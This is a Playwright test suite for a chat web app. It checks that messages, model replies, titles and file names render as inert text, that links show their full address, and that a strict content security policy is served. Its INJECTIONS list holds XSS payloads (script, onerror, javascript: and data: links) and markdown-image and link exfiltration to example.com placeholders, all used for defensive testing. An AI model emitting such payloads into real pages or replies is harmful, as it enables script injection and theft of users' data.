// What others wrote (models, files, titles) is text, never markup; and the page talks to its server alone.

import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import { api, base, begin, pageTest, row, settled, show } from "./support.ts";

const INJECTIONS = [
  `<script>ran.push("script")</script>`,
  `<img src=x onerror='ran.push("image")'>`,
  `<svg onload='ran.push("svg")'></svg>`,
  `<iframe srcdoc="<script>parent.ran.push('frame')</script>"></iframe>`,
  `[link](javascript:ran.push("link"))`,
  `[link](data:text/html,<script>ran.push("data")</script>)`,
  `![image](https://example.com/stolen?secret)`,
  `<a href="javascript:ran.push('a')">a</a>`,
  `<style>body { display: none }</style>`,
  `$\\href{javascript:ran.push("math")}{x}$`,
  `$\\includegraphics{https://example.com/math.png}$`,
  `<form action=https://example.com><button>go</button></form>`,
].join("\n\n");

async function nothingRan(page: Page) {
  await page.waitForTimeout(400);
  assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { ran: string[] }).ran), []);
  const inside = await page.locator(
    ".transcript :is(script, iframe, object, embed, form, style, img, [onerror], [onload])",
  );
  assert.equal(await inside.count(), 0);
  const addresses = await page
    .locator(".transcript a")
    .evaluateAll((links) => links.map((a) => (a as HTMLAnchorElement).protocol));
  assert.ok(
    addresses.every((protocol) => /^(https?|mailto):$/.test(protocol)),
    String(addresses),
  );
}

pageTest("messages run nothing and load nothing", {}, async (page) => {
  const { id } = await begin("Injected");
  await api("POST", `/app/conversations/${id}/messages`, { parent: null, content: INJECTIONS, answer: false });
  await show(page, id);
  await page.locator(".message-user").waitFor();
  await nothingRan(page);
  assert.ok((await page.locator(".message-user .message-text").innerText()).includes("<script>"));
});

pageTest("replies run nothing and load nothing", {}, async (page) => {
  const { id } = await begin("Injected reply", { parameters: {} });
  // Whatever model there is, its reply is put into what the page is given.
  await page.route(`**/app/conversations/${id}*`, async (route) => {
    if (route.request().method() !== "GET") return route.continue();
    const answer = await (await route.fetch()).json();
    const now = Date.now();
    const made = {
      state: "complete",
      error: null,
      model: "m",
      report: null,
      attachments: [],
      created: now,
      updated: now,
    };
    answer.messages = [
      { id: 1e9, parent: null, role: "user", content: "Hello", reasoning: "", ...made },
      { id: 1e9 + 1, parent: 1e9, role: "assistant", content: INJECTIONS, reasoning: INJECTIONS, ...made },
    ];
    answer.whole = true;
    await route.fulfill({ json: answer });
  });
  await show(page, id);
  await page.locator(".message-assistant .reply").waitFor();
  await page.locator(".thinking-summary").click();
  await nothingRan(page);
});

pageTest("titles, folders and files' names run nothing", {}, async (page) => {
  const name = `<img src=x onerror='ran.push("name")'>`;
  const { id } = await begin(name);
  const folder = await api<{ id: number }>("POST", "/app/folders", { name });
  const data = Buffer.from("text").toString("base64");
  const file = await api<{ id: number }>("POST", "/app/attachments", { name: `${name}.txt`, data });
  await api("POST", `/app/conversations/${id}/messages`, {
    parent: null,
    content: "x",
    attachments: [file.id],
    answer: false,
  });
  await show(page, id);
  await page.locator(".message-user .chip").waitFor();
  await row(page, "onerror").first().waitFor();
  await page.keyboard.press("Control+K");
  await page.getByRole("combobox").fill("onerror");
  await page.getByRole("option", { name: "onerror" }).first().waitFor();
  await nothingRan(page);
  await api("DELETE", `/app/folders/${folder.id}`);
  await api("DELETE", `/app/conversations/${id}`);
});

pageTest("a link shows its whole address before it is opened", {}, async (page) => {
  const { id } = await begin("A link", { parameters: {} });
  const address = "https://example.com/collect?what=everything%20you%20said";
  await page.route(`**/app/conversations/${id}*`, async (route) => {
    if (route.request().method() !== "GET") return route.continue();
    const answer = await (await route.fetch()).json();
    const made = { state: "complete", error: null, model: "m", report: null, attachments: [], created: 1, updated: 1 };
    const content = `See [the weather](${address}).`;
    answer.messages = [{ id: 1e9, parent: null, role: "assistant", content, reasoning: "", ...made }];
    answer.whole = true;
    await route.fulfill({ json: answer });
  });
  await show(page, id);
  await page.getByText("the weather").click();
  const dialog = page.getByRole("dialog", { name: "Open this address?" });
  await dialog.getByText(address).waitFor();
  const open = dialog.getByRole("link", { name: "Open" });
  assert.equal(await open.getAttribute("target"), "_blank");
  assert.equal(await open.getAttribute("rel"), "noopener noreferrer");
  await page.keyboard.press("Escape");
  await dialog.waitFor({ state: "detached" });
});

pageTest("the page is served with a policy that allows nothing from elsewhere", {}, async () => {
  const response = await fetch(`${base}/`);
  const policy = response.headers.get("content-security-policy") ?? "";
  for (const part of ["default-src 'none'", "script-src 'self'", "connect-src 'self'", "trusted-types 'none'"]) {
    assert.ok(policy.includes(part), `${part} is not in: ${policy}`);
  }
  const text = await response.text();
  assert.doesNotMatch(text, /https?:\/\//);
});

pageTest("a reply of code, tables and mathematics breaks no rule of the policy", {}, async (page) => {
  const { id } = await begin("Rich", { parameters: { max_tokens: 60, temperature: 0, seed: 1 } });
  await show(page, id);
  await page.locator(".composer textarea").fill("Hello");
  await page.keyboard.press("Enter");
  await settled(page);
});
